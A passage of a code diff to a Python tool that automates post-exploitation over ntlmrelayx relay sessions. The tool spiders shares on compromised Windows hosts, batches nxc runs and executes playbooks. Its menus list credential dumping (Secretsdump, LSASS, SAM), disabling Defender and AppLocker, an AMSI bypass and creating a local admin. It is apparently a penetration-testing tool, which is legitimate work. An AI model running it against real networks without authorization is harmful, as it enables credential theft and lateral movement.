+            checkpoint = self._load(ip)
+            checkpoint.setdefault(self.key(spider), []).append(share)
+            self._save(ip, checkpoint)
+
+    def clear(self, ip, spider):
+        with self._lock:
+            checkpoint = self._load(ip)
+            if checkpoint.pop(self.key(spider), None) is None:
+                return
+            if checkpoint:
+                self._save(ip, checkpoint)
+            else:
+                os.remove(self._path(ip))
+
+# Function to spider every readable share of a host, skipping shares a previous run already finished
+def spider_host(ip, engagement, spider, live=True):
+    shares = engagement.findings.readable_shares(ip)
+    if not shares:
+        # Readable shares come from "List shares"; enumerate them first on hosts that haven't been
+        run_on_host(ip, "List shares", engagement, live=live)
+        shares = engagement.findings.readable_shares(ip)
+    if not shares:
+        with output_lock:
+            print(f"No readable non-default shares to spider on {ip}.")
+        return None
+
+    checkpoints = engagement.spider_checkpoints
+    if engagement.args.refresh:
+        checkpoints.clear(ip, spider)
+    done = checkpoints.done(ip, spider)
+    if done:
+        with output_lock:
+            print(f"\033[1;33m[ RESUME ]\033[0m {ip}: skipping already spidered share(s) {', '.join(sorted(done))}")
+
+    status = 'ok'
+    for share in shares:
+        if share in done:
+            continue
+        share_status = run_on_host(ip, SPIDER_ACTION, engagement, {**spider, "share": share}, live)
+        if share_status == 'ok':
+            checkpoints.mark(ip, spider, share)
+        elif share_status in (None, 'cancelled'):
+            return share_status  # No usable session left, or the user stopped the run
         else:
-            print(output)
-    except subprocess.CalledProcessError as e:
-        print(f"Command failed: {e}")
+            status = share_status  # Carry on with the host's other shares
+    if status == 'ok':
+        # Every share finished: the checkpoint only exists to resume an interrupted run, so a later run starts over
+        checkpoints.clear(ip, spider)
+    return status
 
-    # Re-check cache and actions status immediately after execution
-    update_cache_status(cache_file, action_name, available_ips)
+# Function to group batch targets under shared admin users: the user with admin on the most remaining targets takes
+# them all (ties go to the user used least so far, balancing across batches), split by the ntlmrelayx instance
+# holding the session, since one nxc run goes through one proxy
+def plan_batches(ips, engagement):
+    scheduler = engagement.scheduler
+    usable = {ip: {user for user in scheduler.candidates(ip) if engagement.liveness.get(ip, user) is not False} for ip in ips}
+    groups = defaultdict(list)
+    remaining = list(ips)
+    while remaining:
+        coverage = Counter(user for ip in remaining for user in usable[ip])
+        admin_user = min(coverage, key=lambda user: (-coverage[user], scheduler.user_uses(user), user))
+        for ip in remaining:
+            if admin_user in usable[ip]:
+                groups[(admin_user, engagement.relays.source(ip, admin_user))].append(ip)
+        remaining = [ip for ip in remaining if admin_user not in usable[ip]]
+    return groups
+
+# Function to run an action across several hosts with a bounded worker pool
+def run_on_hosts(ips, action_name, engagement, action_args=None):
+    args = engagement.args
+    scheduler = engagement.scheduler
+    targets = []
+    for ip in ips:
+        if engagement.relays.admin_users_by_ip.get(ip):
+            targets.append(ip)
+        else:
+            print(f"No known admin user found for {ip}. Skipping.")
+
+    # Each task is (label, function, arguments); batching groups targets under shared admin users
+    tasks = []
+    if args.batch and action_name in BATCHABLE_ACTIONS:
+        batch_ips = []
+        for ip in targets:
+            # Stored results and hosts without a usable session go through run_on_host, which serves or skips them
+            if not any(engagement.liveness.get(ip, user) is not False for user in scheduler.candidates(ip)) or stored_result_user(ip, action_name, engagement):
+                tasks.append((ip, run_on_host, (ip, action_name, engagement, action_args)))
+            else:
+                batch_ips.append(ip)
+        for (admin_user, _), group_ips in plan_batches(batch_ips, engagement).items():
+            for start in range(0, len(group_ips), args.batch_size):
+                chunk = group_ips[start:start + args.batch_size]
+                tasks.append((", ".join(chunk), run_batch_on_hosts, (chunk, admin_user, action_name, engagement, action_args)))
+    elif action_name == SPIDER_ACTION:
+        tasks = [(ip, spider_host, (ip, engagement, action_args)) for ip in targets]
+    else:
+        tasks = [(ip, run_on_host, (ip, action_name, engagement, action_args)) for ip in targets]
+
+    # Final status per IP; batches report a dict of their hosts
+    results = {}
+
+    def collect(label, outcome):
+        if isinstance(outcome, dict):
+            results.update(outcome)
+        elif outcome is not None:
+            results[label] = outcome
+
+    workers = args.workers
+    if workers <= 1 or len(tasks) <= 1:
+        for label, function, arguments in tasks:
+            collect(label, function(*arguments))
+        return results
+
+    # Results are reported as each task finishes, not in submission order
+    with ThreadPoolExecutor(max_workers=workers) as pool:
+        futures = {pool.submit(function, *arguments, live=False): label for label, function, arguments in tasks}
+        remaining = set(futures)
+        while remaining:
+            try:
+                for future in as_completed(remaining):
+                    remaining.discard(future)
+                    try:
+                        collect(futures[future], future.result())
+                    except Exception as e:
+                        results[futures[future]] = 'failed'
+                        with output_lock:
+                            print(f"Execution on {futures[future]} failed: {e}")
+            except KeyboardInterrupt:
+                # Ctrl-C cancels the hosts currently running; queued hosts still run
+                with output_lock:
+                    print("\nCancelling the hosts currently running...")
+                cancel_active_runs()
+    return results
+
+# Actions offered in each menu category
+MENU_OPTIONS = {
+    "Enumeration": [
+        ">> Domain info <<",
+        "List local users",
+        "List local admins",
+        "Logged on users",
+        "List shares",
+        "Logical drives",
+        "List security events"
+    ],
+    "Execution": [
+        "List \"C:\\\"",
+        "List alternate drive",
+        "Spider filesystem for pattern",
+        "\033[1;31m[ UNAVAILABLE ] nxc GET\033[0m",
+        "\033[1;31m[ UNAVAILABLE ] nxc PUT\033[0m",
+        "\033[1;31m[ UNAVAILABLE ] nxc command (cmd.exe) - (WARNING: no shell or interactives, only execution or stdout)\033[0m",
+        "\033[1;31m[ UNAVAILABLE ] nxc command (PowerShell) - (WARNING: no shell or interactives, only execution or stdout)\033[0m",
+        "\033[1;31m[ UNAVAILABLE ] Disable Windows Defender\033[0m",
+        "\033[1;31m[ UNAVAILABLE ] Disable AppLocker\033[0m",
+        "\033[1;31m[ UNAVAILABLE ] AMSI Bypass\033[0m"
+    ],
+    "Credentials": [
+        "Secretsdump",
+        "\033[1;31m[ UNAVAILABLE ] nxc SAM\033[0m",
+        "\033[1;31m[ UNAVAILABLE ] nxc LSA\033[0m",
+        "\033[1;31m[ UNAVAILABLE ] nxc LSASS\033[0m",
+        "\033[1;31m[ UNAVAILABLE ] nxc nanodump\033[0m"
+    ],
+    "Persistence": [
+        ">> Create local admin <<",
+        "\033[1;31m[ UNAVAILABLE ] Retrieve remote file (download)\033[0m",
+        "\033[1;31m[ UNAVAILABLE ] Send local file (upload)\033[0m"
+    ]
+}
+
+# Action names that can actually be run (used to validate playbooks)
+RUNNABLE_ACTIONS = {option for options in MENU_OPTIONS.values() for option in options if "[ UNAVAILABLE ]" not in option and ">>" not in option}
 
 # Function to display the main menu
-def display_menu(title, options, cache_actions, available_ips, back_option=True):
+def display_menu(title, options, action_cache, available_ips, back_option=True):
     print(f"\n\033[1m{title}\033[0m")
     for i, option in enumerate(options, start=1):
         action_name = option.split("[")[0].strip()  # Extract the action name
-        if action_name in cache_actions:
-            if len(cache_actions[action_name]) == len(available_ips):
-                option = f"\033[1;32m[ COMPLETE - ADM ]\033[0m {option}"
-            else:
-                option = f"\033[1;33m[ PARTIAL ]\033[0m {option}"
+        status = action_cache.status(action_name, available_ips)
+        if status == 'complete':
+            option = f"\033[1;32m[ COMPLETE - ADM ]\033[0m {option}"
+        elif status == 'partial':
+            option = f"\033[1;33m[ PARTIAL ]\033[0m {option}"
         if "[ UNAVAILABLE ]" in option:
             option = f"\033[1;31m{option}\033[0m"  # Bold red for unavailable actions
         print(f"{i}. {option}")
@@ -202,45 +1784,9 @@ def display_menu(title, options, cache_actions, available_ips, back_option=True)
         print("0. Back")
 
 # Function to handle the action selection and execution
-def handle_action_selection(category, true_lines, cache_file, cache_actions, args):
-    options = {
-        "Enumeration": [
-            ">> Domain info <<",
-            "List local users",
-            "List local admins",
-            "Logged on users",
-            "List shares",
-            "Logical drives",
-            "List security events"
-        ],
-        "Execution": [
-            "List \"C:\\\"",
-            "List alternate drive",
-            "Spider filesystem for pattern",
-            "\033[1;31m[ UNAVAILABLE ] nxc GET\033[0m",
-            "\033[1;31m[ UNAVAILABLE ] nxc PUT\033[0m",
-            "\033[1;31m[ UNAVAILABLE ] nxc command (cmd.exe) - (WARNING: no shell or interactives, only execution or stdout)\033[0m",
-            "\033[1;31m[ UNAVAILABLE ] nxc command (PowerShell) - (WARNING: no shell or interactives, only execution or stdout)\033[0m",
-            "\033[1;31m[ UNAVAILABLE ] Disable Windows Defender\033[0m",
-            "\033[1;31m[ UNAVAILABLE ] Disable AppLocker\033[0m",
-            "\033[1;31m[ UNAVAILABLE ] AMSI Bypass\033[0m"
-        ],
-        "Credentials": [
-            "Secretsdump",
-            "\033[1;31m[ UNAVAILABLE ] nxc SAM\033[0m",
-            "\033[1;31m[ UNAVAILABLE ] nxc LSA\033[0m",
-            "\033[1;31m[ UNAVAILABLE ] nxc LSASS\033[0m",
-            "\033[1;31m[ UNAVAILABLE ] nxc nanodump\033[0m"
-        ],
-        "Persistence": [
-            ">> Create local admin <<",
-            "\033[1;31m[ UNAVAILABLE ] Retrieve remote file (download)\033[0m",
-            "\033[1;31m[ UNAVAILABLE ] Send local file (upload)\033[0m"
-        ]
-    }
-    
-    available_ips = set(entry[1] for entry in true_lines if entry[3] == 'TRUE')  # Ensure available_ips is properly initialized
-    display_menu(category, options[category], cache_actions, available_ips)
+def handle_action_selection(category, engagement):
+    available_ips = set(engagement.relays.admin_systems)
+    display_menu(category, MENU_OPTIONS[category], engagement.action_cache, available_ips)
 
     selection = input("> ").strip().lower()
     
@@ -252,8 +1798,8 @@ def handle_action_selection(category, true_lines, cache_file, cache_actions, arg
     
     if selection.isdigit():
         selection = int(selection)
-        if 0 < selection <= len(options[category]):
-            action = options[category][selection - 1]
+        if 0 < selection <= len(MENU_OPTIONS[category]):
+            action = MENU_OPTIONS[category][selection - 1]
             
             if "[ UNAVAILABLE ]" in action:
                 print("This action is currently unavailable.")
@@ -262,7 +1808,7 @@ def handle_action_selection(category, true_lines, cache_file, cache_actions, arg
             # Handle directory navigation (if applicable)
             if ">>" in action:
                 sub_category = action.replace(">>", "").strip()
-                handle_action_selection(sub_category, true_lines, cache_file, cache_actions, args)
+                handle_action_selection(sub_category, engagement)
                 return
             
             # Handle actual actions
@@ -270,106 +1816,239 @@ def handle_action_selection(category, true_lines, cache_file, cache_actions, arg
 
             # Select systems to target
             target_ips = select_systems(available_ips)
-            if isinstance(target_ips, list):
-                # Execute command for the first selected IP
-                first_ip = target_ips[0]
-                first_admin_user = None
-                for entry in true_lines:
-                    if entry[1] == first_ip and entry[3] == 'TRUE':
-                        first_admin_user = entry[2]
-                        break
-                
-                if first_admin_user:
-                    execute_command(first_ip, first_admin_user, action_name, args.output_file, cache_file, available_ips, args.exec_method, args.grep, args.grep_before, args.grep_after)
-                    update_cache(cache_file, action_name, [first_ip], debug=args.debug)
-                else:
-                    print(f"No known admin user found for {first_ip}. Skipping.")
-
-                # If more than one IP was provided, prompt to continue
-                if len(target_ips) > 1:
-                    proceed = input("Do you want to continue with the remaining systems? (y/n): ").strip().lower()
-                    if proceed == 'n':
-                        return
-                
-                # Execute command for the remaining selected IPs
-                for ip in target_ips[1:]:
-                    admin_user = None
-                    for entry in true_lines:
-                        if entry[1] == ip and entry[3] == 'TRUE':
-                            admin_user = entry[2]
-                            break
-                    if admin_user:
-                        execute_command(ip, admin_user, action_name, args.output_file, cache_file, available_ips, args.exec_method, args.grep, args.grep_before, args.grep_after)
-                        update_cache(cache_file, action_name, [ip], debug=args.debug)
-                    else:
-                        print(f"No known admin user found for {ip}. Skipping.")
-            else:
-                # If target_ips is not a list, it's either 'all' or a control command
-                if target_ips == 'all':
-                    remaining_ips = available_ips.copy()
-
-                    # Execute command for the first system
-                    first_ip = remaining_ips.pop()
-                    first_admin_user = None
-                    for entry in true_lines:
-                        if entry[1] == first_ip and entry[3] == 'TRUE':
-                            first_admin_user = entry[2]
-                            break
-                    
-                    if first_admin_user:
-                        execute_command(first_ip, first_admin_user, action_name, args.output_file, cache_file, available_ips, args.exec_method, args.grep, args.grep_before, args.grep_after)
-                        update_cache(cache_file, action_name, [first_ip], debug=args.debug)
-                    else:
-                        print(f"No known admin user found for {first_ip}. Skipping.")
-                    
-                    # Prompt to continue with remaining systems
-                    if remaining_ips:
-                        proceed = input("Do you want to continue with the remaining systems? (y/n): ").strip().lower()
-                        if proceed == 'n':
-                            return
-                    
-                    # Execute command for the remaining systems
-                    for ip in remaining_ips:
-                        admin_user = None
-                        for entry in true_lines:
-                            if entry[1] == ip and entry[3] == 'TRUE':
-                                admin_user = entry[2]
-                                break
-                        if admin_user:
-                            execute_command(ip, admin_user, action_name, args.output_file, cache_file, available_ips, args.exec_method, args.grep, args.grep_before, args.grep_after)
-                            update_cache(cache_file, action_name, [ip], debug=args.debug)
-                        else:
-                            print(f"No known admin user found for {ip}. Skipping.")
-                elif target_ips in {'q', 'quit', 'exit', 'back'}:
+            if target_ips == 'all':
+                target_ips = sorted(available_ips)
+            elif not isinstance(target_ips, list):
+                return  # A control command such as 'back' or 'quit'
+
+            # Ask action parameters once, not once per host
+            action_args = prompt_action_args(action_name)
+
+            # Execute command for the first selected IP
+            run_on_hosts(target_ips[:1], action_name, engagement, action_args)
+
+            # If more than one IP was selected, prompt to continue
+            if len(target_ips) > 1:
+                proceed = input("Do you want to continue with the remaining systems? (y/n): ").strip().lower()
+                if proceed == 'n':
                     return
 
-            # Re-check cache and actions status
-            update_cache_status(cache_file, action_name, available_ips)
-
-            # Fresh pull from API to check for new systems/users
-            fresh_data = fetch_data_from_api(f"http://127.0.0.1:{args.port}/ntlmrelayx/api/v1.0/relays")
-            new_true_lines = [entry for entry in fresh_data if entry not in true_lines]
-            if new_true_lines:
-                new_systems = set(entry[1] for entry in new_true_lines)
-                new_admin_systems = set(entry[1] for entry in new_true_lines if entry[3] == 'TRUE')
-                new_users = set(entry[2] for entry in new_true_lines)
-                new_admin_users = set(entry[2] for entry in new_true_lines if entry[3] == 'TRUE')
-
-                # Compare with existing systems and users
-                existing_systems = set(entry[1] for entry in true_lines)
-                existing_users = set(entry[2] for entry in true_lines)
-
-                actual_new_systems = new_systems - existing_systems
-                actual_new_admin_systems = new_admin_systems - existing_systems
-                new_users_for_existing_systems = {entry[2] for entry in new_true_lines if entry[1] in existing_systems and entry[2] not in existing_users}
-
-                print(f"\033[1;34mNew systems detected\033[0m: \033[1m{len(actual_new_systems)}\033[0m (\033[1;33m{len(actual_new_admin_systems)} with admin\033[0m)")
-                print(f"\033[1;34mNew users detected\033[0m: \033[1m{len(new_users_for_existing_systems)}\033[0m (\033[1;33m{len(new_admin_users & new_users_for_existing_systems)} with admin\033[0m)")
-                true_lines.extend(new_true_lines)
-    
+            # Execute command for the remaining selected IPs across the worker pool
+            run_on_hosts(target_ips[1:], action_name, engagement, action_args)
+
     else:
         print("Invalid selection. Please try again.")
 
+# Functions to validate a playbook param and convert it to what the CLI option or prompt would give; they raise ValueError
+def playbook_int(value, minimum=0):
+    if isinstance(value, bool) or isinstance(value, float):
+        raise ValueError(f"must be a whole number >= {minimum}")
+    try:
+        value = int(str(value).strip())
+    except ValueError:
+        raise ValueError(f"must be a whole number >= {minimum}")
+    if value < minimum:
+        raise ValueError(f"must be a whole number >= {minimum}")
+    return value
+
+def playbook_number(value, positive=False):
+    if isinstance(value, bool):
+        raise ValueError("must be a number")
+    try:
+        value = float(str(value).strip())
+    except ValueError:
+        raise ValueError("must be a number")
+    if value < 0 or (positive and value == 0) or value != value:
+        raise ValueError("must be a number greater than 0" if positive else "must be a number >= 0")
+    return value
+
+def playbook_bool(value):
+    if isinstance(value, bool):
+        return value
+    if str(value).strip().lower() in {"true", "yes", "1"}:
+        return True
+    if str(value).strip().lower() in {"false", "no", "0"}:
+        return False
+    raise ValueError("must be true or false")
+
+def playbook_string(value):
+    if not isinstance(value, (str, int, float)) or isinstance(value, bool) or not str(value).strip():
+        raise ValueError("must be a non-empty string")
+    return str(value)
+
+def playbook_patterns(value):
+    patterns = value if isinstance(value, list) else [value]
+    if not patterns:
+        raise ValueError("must be a pattern or a list of patterns")
+    return " ".join(playbook_string(pattern).strip() for pattern in patterns)
+
+def playbook_exec_method(value):
+    if value not in EXEC_METHODS:
+        raise ValueError(f"must be one of: {', '.join(EXEC_METHODS)}")
+    return value
+
+# Step parameters a playbook may set (CLI options plus the action parameters the prompts ask for),
+# each with the function that validates and converts its value
+PLAYBOOK_PARAMS = {
+    "event_count": lambda value: playbook_int(value, minimum=1),
+    "pattern": playbook_patterns,
+    "depth": playbook_int,
+    "max_size": lambda value: playbook_number(value, positive=True),
+    "content": playbook_bool,
+    "grep": playbook_string,
+    "grep_before": playbook_int,
+    "grep_after": playbook_int,
+    "exec_method": playbook_exec_method,
+    "refresh": playbook_bool,
+    "timeout": playbook_number,
+}
+
+# Function to load and validate a playbook file (JSON, or YAML when PyYAML is installed)
+def load_playbook(path):
+    with open(path, 'r') as file:
+        text = file.read()
+    if path.endswith(('.yml', '.yaml')):
+        try:
+            import yaml
+        except ImportError:
+            raise ValueError("YAML playbooks need PyYAML (pip install pyyaml); use JSON instead.")
+        playbook = yaml.safe_load(text)
+    else:
+        playbook = json.loads(text)
+
+    # A bare list is a list of steps
+    if isinstance(playbook, list):
+        playbook = {"steps": playbook}
+    if not isinstance(playbook, dict) or not isinstance(playbook.get("steps"), list) or not playbook["steps"]:
+        raise ValueError("a playbook needs a non-empty 'steps' list")
+
+    for number, step in enumerate(playbook["steps"], start=1):
+        if not isinstance(step, dict) or step.get("action") not in RUNNABLE_ACTIONS:
+            raise ValueError(f"step {number}: 'action' must be one of: {', '.join(sorted(RUNNABLE_ACTIONS))}")
+        step.setdefault("targets", "all")
+        selectors = step["targets"] if isinstance(step["targets"], list) else [step["targets"]]
+        for selector in selectors:
+            if str(selector).strip().lower() not in {'all', 'new'}:
+                try:
+                    ipaddress.ip_network(str(selector).strip(), strict=False)
+                except ValueError:
+                    raise ValueError(f"step {number}: target '{selector}' is not 'all', 'new', an IP or a CIDR")
+        params = step.setdefault("params", {})
+        if not isinstance(params, dict):
+            raise ValueError(f"step {number}: 'params' must be a mapping")
+        unknown = set(params) - set(PLAYBOOK_PARAMS)
+        if unknown:
+            raise ValueError(f"step {number}: unknown params {', '.join(sorted(unknown))}")
+        # Convert every value now, so a bad one stops the run before anything executes
+        for name, value in params.items():
+            try:
+                params[name] = PLAYBOOK_PARAMS[name](value)
+            except ValueError as e:
+                raise ValueError(f"step {number}: param '{name}' {e}")
+        if step["action"] == SPIDER_ACTION and "pattern" not in params:
+            raise ValueError(f"step {number}: '{SPIDER_ACTION}' needs a 'pattern' param")
+    try:
+        playbook["interval"] = playbook_number(playbook.get("interval", 0))
+    except ValueError as e:
+        raise ValueError(f"'interval' {e}")
+    return playbook
+
+# Function to resolve a playbook target selector (all, new, IPs, CIDRs) to admin IPs
+def select_playbook_targets(selectors, action_name, engagement):
+    available = set(engagement.relays.admin_systems)
+    chosen = set()
+    for selector in selectors if isinstance(selectors, list) else [selectors]:
+        selector = str(selector).strip().lower()
+        if selector == 'all':
+            chosen |= available
+        elif selector == 'new':
+            # Hosts this action has never completed on, including ones relayed since the last run
+            chosen |= available - engagement.action_cache.completed.get(action_name, set())
+        else:
+            network = ipaddress.ip_network(selector, strict=False)
+            for ip in available:
+                try:
+                    if ipaddress.ip_address(ip) in network:
+                        chosen.add(ip)
+                except ValueError:
+                    continue
+    return sorted(chosen)
+
+# Function to build an action's parameters from a playbook step, with the same defaults as the prompts
+def playbook_action_args(action_name, params):
+    if action_name == "List security events":
+        return str(params.get("event_count", 20))
+    if action_name == SPIDER_ACTION:
+        # Values were already checked and converted by load_playbook
+        return {
+            "pattern": params["pattern"],
+            "depth": params.get("depth", 3),
+            "max_size": params.get("max_size", 10),  # MB, like the prompt
+            "content": params.get("content", False),
+        }
+    return None
+
+# Function to get an engagement view with a playbook step's parameters applied
+def step_engagement(engagement, action_name, params):
+    args = argparse.Namespace(**vars(engagement.args))
+    for name in ("grep", "grep_before", "grep_after", "exec_method", "refresh"):
+        if name in params:
+            setattr(args, name, params[name])
+    if "timeout" in params:
+        args.timeouts = {**args.timeouts, action_name: params["timeout"]}
+    step = copy.copy(engagement)
+    step.args = args
+    return step
+
+# Function to run a playbook without prompts; returns the process exit code
+def run_playbook(playbook, engagement, poller):
+    summary = defaultdict(Counter)  # action -> status counts
+    try:
+        while True:
+            apply_relay_changes(poller, engagement)
+            for step in playbook["steps"]:
+                action_name = step["action"]
+                params = step.get("params", {})
+                target_ips = select_playbook_targets(step["targets"], action_name, engagement)
+                if not target_ips:
+                    print(f"\033[1m[ PLAYBOOK ]\033[0m {action_name}: no matching targets")
+                    continue
+                print(f"\033[1m[ PLAYBOOK ]\033[0m {action_name} on {len(target_ips)} host(s)")
+                action_args = playbook_action_args(action_name, params)
+                results = run_on_hosts(target_ips, action_name, step_engagement(engagement, action_name, params), action_args)
+                summary[action_name].update(results.values())
+
+            if not playbook["interval"]:
+                break
+            # Keep working as new relays land
+            print(f"\033[1m[ PLAYBOOK ]\033[0m Waiting {playbook['interval']:g}s for new relays (Ctrl-C to stop)")
+            time.sleep(playbook["interval"])
+    except KeyboardInterrupt:
+        print("\nPlaybook stopped.")
+
+    display_playbook_summary(summary)
+    return 0 if all(status == 'ok' for counts in summary.values() for status in counts) else 1
+
+# Function to display the per-action outcome of a playbook run
+def display_playbook_summary(summary):
+    statuses = ['ok', 'failed', 'unreachable', 'timeout', 'stale', 'cancelled']
+    print(f"\n\033[1m{'Action':<30}" + "".join(f"{status:>12}" for status in statuses) + "\033[0m")
+    for action_name, counts in summary.items():
+        print(f"{action_name:<30}" + "".join(f"{counts.get(status, 0):>12}" for status in statuses))
+
+# Function to apply relay changes published by the poller (or file follower) since the last call
+def apply_relay_changes(poller, engagement):
+    relays = engagement.relays
+    liveness = engagement.liveness
+    added, removed = poller.drain()
+    report_new_relays(relays, added)
+    report_removed_relays(relays, removed)
+    liveness.forget(added + removed)  # A relisted relay is a new session
+    if poller.failing:
+        print(f"\033[1;31m{poller.source} is not responding; showing the last known relays.\033[0m")
+    if liveness.stale_count(relays):
+        display_session_health(relays, liveness)
+
 def main():
     parser = argparse.ArgumentParser(description="Process ntlmrelayx socks output.")
     
@@ -383,57 +2062,140 @@ def main():
     parser.add_argument("--grep-after", "-A", type=int, help="Number of lines to show after the matching line (alias: -A).", default=0)
     
     parser.add_argument("--input_file", help="Path to the input text file (optional).")
+    parser.add_argument("--follow", action="store_true", help="When falling back to --input_file, keep tailing it and pick up relays appended to it.")
     parser.add_argument("--output_file", help="Path to the output file (optional). If not provided, output will be printed to screen.")
+    parser.add_argument("--output-layout", choices=OutputSink.LAYOUTS, default="single",
+                        help="single: everything in --output_file; host: one file per host, host-action: one file per host and action, under the --output_file directory (default: single).")
+    parser.add_argument("--output-color", action="store_true", help="Keep ANSI colors in the output files (default: plain text).")
+    parser.add_argument("--output-compress", choices=["gzip", "zstd"], help="Compress the output files (zstd needs the zstandard package).")
+    parser.add_argument("--output-max-size", type=float, default=0, help="Rotate an output file once it reaches this many MB; 0 disables rotation (default: 0).")
+    parser.add_argument("--output-backups", type=int, default=5, help="Number of rotated output files kept per file (default: 5).")
     parser.add_argument("--no-cache", action="store_true", help="Run without using the cache file.")
+    parser.add_argument("--result-ttl", type=int, default=3600, help="Seconds a stored action result is reused instead of re-running it; 0 disables reuse (default: 3600).")
+    parser.add_argument("--refresh", action="store_true", help="Ignore stored action results and re-run every command.")
+    parser.add_argument("--compact-cache", action="store_true", help="Rewrite the cache file keeping only the latest entry per action, IP and user, then exit.")
     parser.add_argument("--port", type=int, default=9090, help="Port for ntlmrelayx HTTPAPI (default: 9090).")
-    parser.add_argument("--exec_method", choices=["wmiexec", "smbexec", "mmcexec", "atexec"], help="Specify the exec-method to use.")
+    parser.add_argument("--api", action="append", metavar="[HOST:]PORT[@[SOCKSHOST:]SOCKSPORT]",
+                        help="ntlmrelayx HTTPAPI endpoint to poll, optionally with the SOCKS proxy its relays use; repeat for several instances (default: 127.0.0.1:--port through the system proxychains config).")
+    parser.add_argument("--poll-interval", type=float, default=5.0, help="Seconds between background polls of the ntlmrelayx HTTPAPI (default: 5).")
+    parser.add_argument("--api-timeout", type=float, default=5.0, help="Timeout in seconds for each ntlmrelayx HTTPAPI request (default: 5).")
+    parser.add_argument("--exec_method", choices=EXEC_METHODS, help="Specify the exec-method to use.")
+    parser.add_argument("--workers", type=int, default=4, help="Number of hosts to run concurrently for multi-host actions (default: 4).")
+    parser.add_argument("--timeout", action="append", metavar="[ACTION=]SECONDS", help="Per-host command timeout, for every action or for one action; may be repeated, 0 disables (defaults are per action).")
+    parser.add_argument("--retries", type=int, default=2, help="Number of retries after transient SOCKS/SMB errors (default: 2).")
+    parser.add_argument("--retry-backoff", type=float, default=2.0, help="Initial delay in seconds between retries, doubled on each retry (default: 2).")
+    parser.add_argument("--probe", action="store_true", help="Probe each relay session with a bare nxc login before using it, unless its liveness is already known.")
+    parser.add_argument("--probe-timeout", type=float, default=20, help="Timeout in seconds for a relay session probe (default: 20).")
+    parser.add_argument("--liveness-ttl", type=float, default=120, help="Seconds a relay session stays marked live or stale before it is re-checked (default: 120).")
+    parser.add_argument("--batch", action="store_true", help="Run quick enumeration actions as one nxc invocation per admin user with many targets.")
+    parser.add_argument("--batch-size", type=int, default=64, help="Maximum number of targets per batched nxc invocation (default: 64).")
+    parser.add_argument("--playbook", help="Run the actions listed in a JSON/YAML playbook without prompts, print a summary and exit.")
+    parser.add_argument("--query", nargs='+', metavar=("KIND", "TERM"), help=f"Query parsed findings and exit. KIND is one of: {', '.join(FINDINGS_QUERIES)}.")
+    parser.add_argument("--metrics", help="Append per-command and API timing as JSON lines to this file and print a p50/p95/max summary at exit.")
     parser.add_argument("--debug", action="store_true", help="Enable debug mode to print systems and users data.")
     
     args = parser.parse_args()
+    try:
+        args.timeouts = parse_timeouts(args.timeout)
+    except ValueError:
+        parser.error("--timeout expects SECONDS or ACTION=SECONDS")
+    if args.follow and not args.input_file:
+        parser.error("--follow needs --input_file")
+    if args.batch_size < 1:
+        parser.error("--batch-size must be at least 1")
+    if args.workers < 1:
+        parser.error("--workers must be at least 1")
+    if args.retries < 0:
+        parser.error("--retries must be 0 or more")
+    try:
+        endpoints = [RelayEndpoint(spec) for spec in args.api or [str(args.port)]]
+    except ValueError:
+        parser.error("--api expects [HOST:]PORT[@[SOCKSHOST:]SOCKSPORT]")
+    if len({endpoint.name for endpoint in endpoints}) < len(endpoints):
+        parser.error("--api endpoints must be distinct")
+
+    findings_file = "findings.db"
+    if args.query:
+        if args.query[0] not in FINDINGS_QUERIES or len(args.query) > 2:
+            parser.error(f"--query expects KIND [TERM] with KIND one of: {', '.join(FINDINGS_QUERIES)}")
+        findings = FindingsStore(findings_file)
+        sys.exit(run_findings_query(findings, *args.query))
+
+    playbook = None
+    if args.playbook:
+        try:
+            playbook = load_playbook(args.playbook)
+        except (OSError, ValueError) as e:
+            parser.error(f"invalid playbook {args.playbook}: {e}")
+
+    cache_file = "cache.txt"
+    if args.compact_cache:
+        action_cache = ActionCache(cache_file)
+        print(f"Compacted {cache_file} to {action_cache.compact()} entries.")
+        sys.exit()
 
-    api_url = f"http://127.0.0.1:{args.port}/ntlmrelayx/api/v1.0/relays"
-    true_lines = fetch_data_from_api(api_url)
+    output_sink = None
+    if args.output_file:
+        try:
+            output_sink = OutputSink(args.output_file, args.output_layout, args.output_color, args.output_compress, int(args.output_max_size * 1024 * 1024), args.output_backups)
+        except ValueError as e:
+            parser.error(str(e))
+        output_sink.start()
+        atexit.register(output_sink.close)
 
+    metrics = None
+    if args.metrics:
+        metrics = Metrics(args.metrics)
+        atexit.register(metrics.close)
+
+    for endpoint in endpoints:
+        endpoint.write_proxychains_conf()
+    true_lines = fetch_endpoints(endpoints, timeout=args.api_timeout, metrics=metrics)
+
+    poller = None
     if not true_lines and args.input_file:
         print(f"Failed to fetch data from the API. Falling back to input file: {args.input_file}")
-        true_lines = filter_true_lines(args.input_file)
+        if args.follow:
+            poller = SocksFileFollower(args.input_file, interval=args.poll_interval)
+            poller.poll_once()
+            true_lines, _ = poller.drain()
+        else:
+            true_lines = read_socks_file(args.input_file)
 
-    if not true_lines:
+    if not true_lines and not poller:
         print("No valid data available from the API or the input file.")
         sys.exit(1)
+    relays = RelayIndex(true_lines)
 
-    # Parse or initialize the cache
-    cache_file = "cache.txt"
-    cache_ips, cache_actions = parse_cache(cache_file) if not args.no_cache else (set(), {})
+    # Keep polling every API (or tailing the input file) in the background so the menu never waits
+    if poller:
+        if not true_lines:
+            print(f"No relays in {args.input_file} yet; waiting for new ones.")
+    else:
+        poller = RelayPollerGroup([RelayPoller(endpoint.api_url, interval=args.poll_interval, timeout=args.api_timeout, initial=[entry for entry in relays if entry[5:6] == [endpoint.name]],
+                                               metrics=metrics, tag=endpoint.name) for endpoint in endpoints])
+    poller.start()
+
+    # Load the cache index once; it is kept in sync as actions complete
+    action_cache = ActionCache(cache_file, load=not args.no_cache, debug=args.debug)
+    result_store = ResultStore("results", ttl=args.result_ttl)
+    liveness = LivenessCache(ttl=args.liveness_ttl)
+    findings = FindingsStore(findings_file)
+    engagement = Engagement(args, relays, action_cache, result_store, liveness, findings, metrics, endpoints, output_sink)
 
     # Display system and user information
-    display_unique_counts(true_lines, cache_ips, debug=args.debug)
+    display_unique_counts(relays, action_cache.ips, debug=args.debug, liveness=liveness)
+
+    if playbook:
+        sys.exit(run_playbook(playbook, engagement, poller))
 
     # Main menu
     while True:
-        # Fresh pull from API to check for new systems/users
-        fresh_data = fetch_data_from_api(api_url)
-        new_true_lines = [entry for entry in fresh_data if entry not in true_lines]
-        if new_true_lines:
-            new_systems = set(entry[1] for entry in new_true_lines)
-            new_admin_systems = set(entry[1] for entry in new_true_lines if entry[3] == 'TRUE')
-            new_users = set(entry[2] for entry in new_true_lines)
